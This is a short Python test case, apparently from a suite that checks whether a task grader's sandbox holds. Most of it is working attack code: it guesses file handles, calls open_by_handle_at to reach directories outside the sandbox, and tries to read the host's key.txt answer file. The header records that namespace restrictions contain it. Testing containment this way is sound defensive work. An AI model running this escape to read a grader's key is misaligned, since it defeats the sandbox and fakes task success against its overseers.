# attack: open files by a guessed file handle (open_by_handle_at), which asks for no path
# contained-at: namespaces restricted
# expect: seed-score
import os

from kit import *


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint32), ("type", ctypes.c_int32), ("inode", ctypes.c_uint32),
                ("generation", ctypes.c_uint32), ("rest", ctypes.c_uint64 * 15)]


def solve(instance):
    for mount in ("/", "/usr", "/usr/lib", "/tmp", os.getcwd(), "/dev/null", os.path.dirname(os.__file__)):
        with quietly():
            fd = os.open(mount, os.O_RDONLY)
            for inode in (2, 128, 1, 64, 256):
                for kind in (1, 2):
                    handle = Handle(8, kind, inode, 0)
                    opened = syscall(number(304, 265), fd, ctypes.byref(handle), os.O_RDONLY)
                    if opened >= 0:
                        got(f"opened inode {inode} of {mount}: {os.listdir(opened)[:4]}")
                        steal_from(opened)
            os.close(fd)
    return answer(instance)


def steal_from(fd):
    with quietly():
        there = os.open(host.TMP.lstrip("/") + "/key.txt", os.O_RDONLY, dir_fd=fd)
        tell(os.read(there, 4096), "by handle")
